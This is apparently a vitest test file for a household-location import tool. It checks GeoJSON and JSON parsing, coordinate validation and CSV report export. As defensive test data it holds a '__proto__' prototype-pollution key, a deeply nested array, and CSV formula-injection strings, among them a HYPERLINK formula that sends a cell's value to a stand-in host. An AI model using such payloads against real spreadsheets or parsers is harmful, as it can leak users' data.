import { describe, expect, it } from 'vitest';
import { detectColumnRoles } from './column-roles';
import { importRecords } from './import-records';
import { reportToCsv, safeCsvCell } from './report-csv';
import { tableFromJson } from './table-from-json';

const JIAXING: [number, number, number, number] = [120.291, 30.265, 121.271, 31.033];
const point = (lng: unknown, lat: unknown, properties: object) => ({
  type: 'Feature',
  properties,
  geometry: { type: 'Point', coordinates: [lng, lat] },
});

describe('tableFromJson', () => {
  it('reads a FeatureCollection of points and a JSON array of objects into one table form (C1, C2)', () => {
    const fc = tableFromJson(
      JSON.stringify({
        type: 'FeatureCollection',
        features: [point(120.75, 30.75, { id: 'H1', 户数: 3 }), point(120.76, 30.76, { id: 'H2', 户数: 1, 网格: 'G' })],
      }),
    );
    expect(fc.ok && fc.table.headers).toEqual(['lng', 'lat', 'id', '户数', '网格']);
    expect(fc.ok && fc.table.rows).toEqual([
      ['120.75', '30.75', 'H1', '3', ''],
      ['120.76', '30.76', 'H2', '1', 'G'],
    ]);
    const array = tableFromJson('\uFEFF[{"经度":120.75,"纬度":30.75,"id":"0700"}]');
    expect(array.ok && array.table.rows).toEqual([['120.75', '30.75', '0700']]);
  });

  it('keeps a null-geometry feature as unlocated, never at (0, 0) (C5)', () => {
    const result = tableFromJson(
      JSON.stringify({
        type: 'FeatureCollection',
        features: [point(120.75, 30.75, { id: 'A' }), { type: 'Feature', properties: { id: 'B' }, geometry: null }],
      }),
    );
    expect(result.ok && result.rowProblems).toEqual([[2, 'rowUnlocated']]);
    if (!result.ok) return;
    const imported = importRecords(result.table, {
      kind: 'households',
      fileName: 'f',
      roles: detectColumnRoles(result.table.headers).roles,
      crs: 'wgs84',
      jurisdiction: JIAXING,
      today: '2022-04-30',
      rowProblems: new Map(result.rowProblems),
    });
    expect(imported.households.map((h) => h.id)).toEqual(['A']);
    expect(imported.report.rejections).toEqual([expect.objectContaining({ line: 2, key: 'rowUnlocated' })]);
  });

  it('refuses string coordinates through the same checks, and hostile structure outright (C3, C13, C19, A11, A12)', () => {
    const strings = tableFromJson(
      JSON.stringify({ type: 'FeatureCollection', features: [point('120.75', '30.75', { id: 'A' })] }),
    );
    if (!strings.ok) throw new Error(strings.key);
    const imported = importRecords(strings.table, {
      kind: 'households',
      fileName: 'f',
      roles: detectColumnRoles(strings.table.headers).roles,
      crs: 'wgs84',
      jurisdiction: JIAXING,
      today: '2022-04-30',
    });
    expect(imported.report.rejections).toEqual([
      expect.objectContaining({ line: 1, column: 'lng', value: '"120.75"', key: 'value_not-a-number' }),
    ]);
    expect(tableFromJson('{"type":"featurecollection","features":[]}')).toMatchObject({
      ok: false,
      key: 'importNotGeoJson',
    });
    expect(tableFromJson('[{"__proto__":{"x":1}}]')).toMatchObject({ ok: false, key: 'jsonForbiddenKey' });
    expect(tableFromJson('{"type":"FeatureCollection","features":[{"type":"Feat')).toMatchObject({
      ok: false,
      key: 'importNotJson',
    });
    expect(tableFromJson('['.repeat(100_000) + ']'.repeat(100_000))).toMatchObject({ ok: false, key: 'jsonTooDeep' });
    expect(tableFromJson('[]')).toMatchObject({ ok: false, key: 'importEmpty' });
  });
});

describe('report CSV', () => {
  it('escapes formula cells and quotes, and lists every row with its reason (B16, G6)', () => {
    expect(safeCsvCell('=HYPERLINK("http://x/?"&A1,"click")')).toBe('"\'=HYPERLINK(""http://x/?""&A1,""click"")"');
    expect(safeCsvCell('+86 138')).toBe("'+86 138");
    expect(safeCsvCell('南湖, 1号')).toBe('"南湖, 1号"');
    const labels = {
      read: 'read',
      accepted: 'accepted',
      rejected: 'rejected',
      skipped: 'skipped',
      outcome: 'outcome',
      line: 'line',
      column: 'column',
      value: 'value',
      reason: 'reason',
      hint: 'hint',
      outcomes: { rejected: 'rejected', skipped: 'skipped', warning: 'warning' },
    };
    const csv = reportToCsv(
      {
        read: 2,
        accepted: 1,
        rejected: 1,
        skipped: 0,
        rejections: [{ line: 3, column: 'lng', value: '=1+1', key: 'value_not-a-number' }],
        skips: [],
        warnings: [],
        transforms: {},
        personalColumnsDropped: [],
      },
      (key) => ({ reason: key, hint: 'fix it' }),
      labels,
    );
    expect(csv.startsWith('\uFEFFread,2\r\naccepted,1\r\nrejected,1\r\nskipped,0\r\n')).toBe(true);
    expect(csv).toContain("rejected,3,lng,'=1+1,value_not-a-number,fix it\r\n");
  });
});
